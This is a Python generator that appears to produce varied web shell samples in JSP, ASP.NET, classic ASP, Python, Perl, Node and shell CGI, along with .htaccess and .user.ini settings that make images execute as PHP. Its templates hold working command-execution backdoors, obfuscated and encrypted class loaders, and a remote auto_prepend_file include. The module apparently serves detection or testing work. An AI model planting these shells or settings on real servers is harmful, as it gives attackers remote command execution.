"""Inert shells in languages other than PHP, and settings that make pictures run. Text only."""

import random
from collections.abc import Callable

Draw = random.Random


def _name(draw: Draw, size: int = 5) -> str:
    return draw.choice("abcdefgh") + "".join(
        draw.choice("abcdefghijklmnop_0123456789") for _ in range(size)
    )


def _split(draw: Draw, text: str, glue: str) -> str:
    cut = draw.randint(1, len(text) - 1)
    return draw.choice((f'"{text}"', f'"{text[:cut]}" {glue} "{text[cut:]}"'))


def _escaped(draw: Draw, text: str) -> str:
    """Java's escapes for some letters."""
    return "".join(
        f"\\u{ord(each):04x}" if each.isalpha() and draw.random() < 0.5 else each for each in text
    )


def jsp(draw: Draw) -> tuple[str, str]:
    """Commands, scripts and classes from a request."""
    a, b, c = _name(draw), _name(draw), _name(draw)
    source = draw.choice(
        (
            f'request.getParameter("{a}")',
            f'request.getHeader("X-{a}")',
            "request.getReader().readLine()",
            "request.getQueryString()",
            f'request.getParameterValues("{a}")[0]',
        )
    )
    engine = draw.choice(("js", "nashorn", "JavaScript"))
    code = draw.choice(
        (
            f"Runtime.getRuntime().exec({source});",
            f"String {b}={source}; Process {c}=Runtime.getRuntime().exec({b});",
            f'String {b}={source}; String[] {c}={{"/bin/sh","-c",{b}}}; Runtime.getRuntime().exec({c});',
            f'new ProcessBuilder("/bin/bash", "-c", {source}).start();',
            f"java.util.List<String> {b}=new java.util.ArrayList<>(); {c}={source}; ProcessBuilder p=new ProcessBuilder(); p.command({c});",
            f'new javax.script.ScriptEngineManager().getEngineByName("{engine}").eval({source});',
            f'Class {b}=Class.forName({_split(draw, "java.lang.Runtime", "+")}); Object {c}={b}.getMethod({_split(draw, "getRuntime", "+")}).invoke(null); {b}.getMethod("ex"+"ec",String.class).invoke({c},{source});',
            f"class U extends ClassLoader{{U(ClassLoader c){{super(c);}}public Class g(byte[] b){{return super.defineClass(b,0,b.length);}}}}"
            f' String k="{_name(draw, 12)}"; javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES"); new U(this.getClass().getClassLoader()).g(c.doFinal(java.util.Base64.getDecoder().decode({source}))).newInstance().equals(pageContext);',
            f'byte[] {b}=java.util.Base64.getDecoder().decode({source}); java.lang.reflect.Method m=ClassLoader.class.getDeclaredMethod("defineClass",byte[].class,int.class,int.class); m.setAccessible(true); ((Class)m.invoke(this.getClass().getClassLoader(),{b},0,{b}.length)).newInstance();',
            'java.lang.reflect.Field f=request.getServletContext().getClass().getDeclaredField("context"); f.setAccessible(true); StandardContext s=(StandardContext)f.get(x); FilterDef d=new FilterDef(); s.addFilterDef(d); s.addFilterMapBefore(new FilterMap());',
            f'new java.net.URLClassLoader(new java.net.URL[]{{new java.net.URL({source})}}).loadClass("A").newInstance();',
        )
    )
    kind = draw.choice(("plain", "plain", "escaped", "jspx", "utf16", "padded"))
    if kind == "escaped":
        code = _escaped(draw, code)
    if kind == "jspx":
        body = code.replace("&", "&amp;").replace("<", "&lt;")
        return (
            f"{a}.jspx",
            f'<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet>{body}</jsp:scriptlet></jsp:root>',
        )
    if kind == "padded":
        return (
            f"{a}.jsp",
            '<%@ page import="java.io.*"%>\n' + "<!-- footer -->\n" * 200 + f"<% /* x */ {code} %>",
        )
    return (
        f"{a}.jsp",
        f'<%@ page language="java" import="java.util.*,java.io.*" %><html>{draw.choice(("", "hello"))}<% {code} %></html>',
    )


def aspx(draw: Draw) -> tuple[str, str]:
    """C#, JScript and VB."""
    a, b = _name(draw), _name(draw)
    source = draw.choice(
        (
            f'Request["{a}"]',
            f'Request.Form["{a}"]',
            f'Request.QueryString["{a}"]',
            f'Request.Headers["{a}"]',
            f'Request.Params["{a}"]',
        )
    )
    jscript = draw.choice(
        (
            f'eval(Request.Item["{a}"],"unsafe");',
            f'var {b}={source};eval({b},"un"+"safe");',
            f'eval(System.Text.Encoding.UTF8.GetString(Convert.FromBase64String({source})),"unsafe");',
        )
    )
    sharp = draw.choice(
        (
            f"System.Diagnostics.Process.Start({source});",
            f'var {b}=new ProcessStartInfo("/bin/sh","-c "+{source}); Process.Start({b});',
            f'Process p=new Process(); p.StartInfo.FileName="cmd.exe"; p.StartInfo.Arguments="/c "+{source}; p.Start();',
            f'System.Reflection.Assembly.Load(Convert.FromBase64String({source})).CreateInstance("U");',
            f'byte[] {b}=Request.BinaryRead(Request.ContentLength); System.Reflection.Assembly.Load({b}).CreateInstance("U").Equals(this);',
            f"string {b}={source}; new CSharpCodeProvider().CompileAssemblyFromSource(o, {b});",
        )
    )
    if draw.random() < 0.4:
        return f"{a}.aspx", f'<%@ Page Language="Jscript"%><%{jscript}%>'
    return draw.choice(
        (
            (
                f"{a}.aspx",
                f'<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %><script runat="server">void Page_Load(object s, EventArgs e){{ {sharp} }}</script>',
            ),
            (
                f"{a}.ashx",
                f'<%@ WebHandler Language="C#" Class="H" %>\npublic class H : IHttpHandler {{ public void ProcessRequest(HttpContext context) {{ var Request=context.Request; {sharp} }} }}',
            ),
            (f"{a}.cshtml", f"@{{ {sharp} }}"),
        )
    )


def asp(draw: Draw) -> tuple[str, str]:
    """VBScript."""
    a, b = _name(draw), _name(draw)
    source = draw.choice(
        (
            f'request("{a}")',
            f'Request.Form("{a}")',
            f'request.querystring("{a}")',
            f'Request.Item("{a}")',
        )
    )
    body = draw.choice(
        (
            f"eval {source}",
            f"execute({source})",
            f"ExecuteGlobal {source}",
            f"{b}={source}\nexecute {b}",
            f'set {b}=server.createobject("wscript.shell")\nresponse.write {b}.exec("cmd /c "&{source}).stdout.readall',
            f'set {b}=createobject("ws"&"cript.shell")\n{b}.run {source}',
            f"Function {b}(x)\nexecute(x)\nEnd Function\n{b}({source})",
            f'set s=CreateObject("MSScriptControl.ScriptControl")\ns.AddCode {source}',
        )
    )
    return f"{a}.{draw.choice(('asp', 'asa', 'cer'))}", f"<%{body}%>"


def python(draw: Draw) -> tuple[str, str]:
    """CGI, Flask, Django, WSGI, a server of its own."""
    a, b = _name(draw), _name(draw)
    run = draw.choice(
        (
            "os.system(%s)",
            "os.popen(%s).read()",
            "subprocess.check_output(%s, shell=True)",
            "exec(%s)",
            "eval(%s)",
            "__import__('os').popen(%s).read()",
            "subprocess.getoutput(%s)",
            "getattr(os,'sys'+'tem')(%s)",
            "exec(base64.b64decode(%s))",
            "subprocess.run(['/bin/sh','-c',%s])",
            "eval(compile(%s,'x','exec'))",
        )
    )
    return draw.choice(
        (
            (
                f"{a}.py",
                f"#!/usr/bin/env python3\nimport cgi,os,subprocess,base64\nprint('Content-Type: text/plain\\n')\n{b}=cgi.FieldStorage()\n{a}={b}.getvalue('{a}')\nprint({run % a})\n",
            ),
            (
                f"{a}.py",
                f"from flask import Flask,request\nimport os,subprocess,base64\napp=Flask(__name__)\n@app.route('/{a}')\ndef {a}():\n    return str({run % f'request.args.get({b!r})'})\n",
            ),
            (
                f"{a}.py",
                f"import os,subprocess,base64\ndef {a}(request):\n    {b}=request.POST['{a}']\n    return HttpResponse({run % b})\n",
            ),
            (
                f"{a}.wsgi",
                f"import os,subprocess,base64\nfrom urllib.parse import parse_qs\ndef application(environ, start_response):\n    {b}=parse_qs(environ['QUERY_STRING'])['{a}'][0]\n    start_response('200 OK',[])\n    return [str({run % b}).encode()]\n",
            ),
            (
                f"{a}.cgi",
                f"#!/usr/bin/python\nimport os,subprocess,base64\nprint('Content-type: text/html\\n')\n{b}=os.environ['HTTP_X_{a.upper()}']\nprint({run % b})\n",
            ),
        )
    )


def perl(draw: Draw) -> tuple[str, str]:
    """CGI."""
    a, b = _name(draw), _name(draw)
    head = '#!/usr/bin/perl\nuse CGI;\nprint "Content-type: text/plain\\n\\n";\n'
    value = draw.choice(
        (
            f"my ${b} = CGI->new->param('{a}');",
            f"my ${b} = $ENV{{'QUERY_STRING'}};",
            f"my $q=new CGI; my ${b}=$q->param('{a}');",
            f"read(STDIN, my $raw, $ENV{{CONTENT_LENGTH}}); my ${b} = <STDIN>;",
            f"${b}=$ENV{{HTTP_X_{a.upper()}}};",
        )
    )
    run = draw.choice(
        (
            f"system(${b});",
            f"print `${b}`;",
            f"eval ${b};",
            f"exec ${b};",
            f'open(F, "${b} |"); print <F>;',
            f"print qx{{${b}}};",
            f"system('/bin/sh','-c',${b});",
            f"print `${b} 2>&1`;",
        )
    )
    return f"{a}.{draw.choice(('cgi', 'pl'))}", f"{head}{value}\n{run}\n"


def node(draw: Draw) -> tuple[str, str]:
    """Express and plain http."""
    a, b = _name(draw), _name(draw)
    source = draw.choice(
        (
            f"req.query.{a}",
            f"req.body.{a}",
            f"req.headers['x-{a}']",
            f"req.params.{a}",
            f"req.cookies.{a}",
        )
    )
    run = draw.choice(
        (
            f"require('child_process').exec({source},(e,o)=>res.end(o))",
            f"const {b}={source}; res.send(require('child_process').execSync({b}).toString())",
            f"res.send(String(eval({source})))",
            f"new Function({source})()",
            f"require('child_process')['exec']({source})",
            f"const cp=require('child_process'); cp.spawn('/bin/sh',['-c',{source}])",
            f"require('vm').runInThisContext({source})",
            f"let {b}=Buffer.from({source},'base64').toString(); require('child_process').execSync({b})",
        )
    )
    return (
        f"{a}.js",
        f"const express=require('express');const app=express();\napp.all('/{a}',(req,res)=>{{ {run}; }});\napp.listen(80);\n",
    )


def shell(draw: Draw) -> tuple[str, str]:
    """CGI in the shell."""
    a = _name(draw)
    head = f'#!/bin/{draw.choice(("sh", "bash"))}\necho "Content-type: text/plain"\necho\n'
    body = draw.choice(
        (
            'eval "$QUERY_STRING"',
            f'{a}=$(echo "$QUERY_STRING" | sed "s/+/ /g")\neval "${a}"',
            'sh -c "$HTTP_X_CMD"',
            'read line\nsh -c "$line"',
            'echo "$QUERY_STRING" | base64 -d | sh',
            f"{a}=$HTTP_COOKIE\n${a}",
            f'{a}="${{QUERY_STRING#*=}}"\nbash -c "${a}" 2>&1',
            "echo `$QUERY_STRING`",
            "$(echo $HTTP_USER_AGENT)",
        )
    )
    return f"{a}.{draw.choice(('cgi', 'sh'))}", head + body + "\n"


def htaccess(draw: Draw) -> tuple[str, str]:
    """Pictures that run, and code before each page."""
    a, ending = _name(draw), draw.choice(("jpg", "png", "gif", "txt", "ico", "log", "xyz"))
    return draw.choice(
        (
            (".htaccess", f"AddType application/x-httpd-php .{ending}\n"),
            (".htaccess", f"AddHandler application/x-httpd-php .{ending} .css\n"),
            (".htaccess", f"AddHandler php7-script .{ending}\n"),
            (
                ".htaccess",
                f'<FilesMatch "{a}\\.{ending}">\nSetHandler application/x-httpd-php\n</FilesMatch>\n',
            ),
            (".htaccess", f'<Files "{a}.{ending}">\nForceType application/x-httpd-php\n</Files>\n'),
            (
                ".htaccess",
                '<Files ~ "^\\.ht">\nOrder allow,deny\nAllow from all\n</Files>\nAddType application/x-httpd-php .htaccess\n',
            ),
            (".htaccess", f"php_value auto_prepend_file /tmp/.{a}\n"),
            (
                ".htaccess",
                f'php_value auto_append_file "{a}.{draw.choice(("jpg", "png", "gif", "txt"))}"\n',
            ),
            (".htaccess", "SetHandler application/x-httpd-php\n"),
            (".htaccess", 'php_value auto_prepend_file "data:;base64,PD9waHA="\n'),
            (".user.ini", f"auto_prepend_file={a}.{draw.choice(('jpg', 'png', 'gif', 'ico'))}\n"),
            (".user.ini", f"auto_append_file = /dev/shm/{a}\n"),
            (".user.ini", "allow_url_include=1\nauto_prepend_file = http://203.0.113.9/x\n"),
        )
    )


OTHER: dict[str, Callable[[Draw], tuple[str, str]]] = {
    "jsp": jsp,
    "aspx": aspx,
    "asp": asp,
    "python": python,
    "perl": perl,
    "node": node,
    "shell": shell,
    "settings": htaccess,
}
